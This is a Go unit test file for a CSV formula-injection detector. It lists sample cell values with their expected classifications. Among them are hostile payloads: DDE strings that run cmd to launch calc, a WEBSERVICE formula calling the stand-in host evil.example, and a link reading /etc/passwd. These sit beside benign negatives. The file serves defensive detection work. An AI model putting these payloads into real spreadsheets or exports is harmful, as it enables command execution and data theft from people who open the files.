package csvinjection_test

import (
	"testing"

	"github.com/tangoguard/tangoguard/internal/detect/csvinjection"
	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
)

func TestRules(t *testing.T) {
	detecttest.Table(t, csvinjection.Detector(), detecttest.Rows{
		{"DDE", "=cmd|' /C calc'!A0", "dde"},
		{"DDE behind arithmetic", "-2+3+cmd|' /C calc'!A0", "dde"},
		{"a call", "=WEBSERVICE(\"http://evil.example\")", "function"},
		{"a call of old Lotus", "@SUM(A1:A9)", "function"},
		{"a file", "='file:///etc/passwd'#$a.A1", "file-link"},
		{"arithmetic", "=A1+B1", "formula"},
		{"a cell behind a comma", "x,=cmd|'/C calc'!A0", "dde"},
		{"a phone number", "+1 (555) 010-9999", ""},
		{"a smiley", "=)", ""},
		{"a handle", "@anna (from work)", ""},
		{"a list", "- sum (total): 5", ""},
		{"a balance", "-5", ""},
	})
}

func TestCorpora(t *testing.T) { detecttest.Corpora(t, csvinjection.Detector()) }

func TestLinear(t *testing.T) {
	detecttest.Linear(t, csvinjection.Detector(), 100, "=", "=1+", "@SUM", "+-", "=a|", ",=", ";=cmd|'", "\n=1", "-(", "=((((", "|'", ",=1", ",+1,", ",=A(", "=a|b|", "\n=\"", ",=a|x!")
}
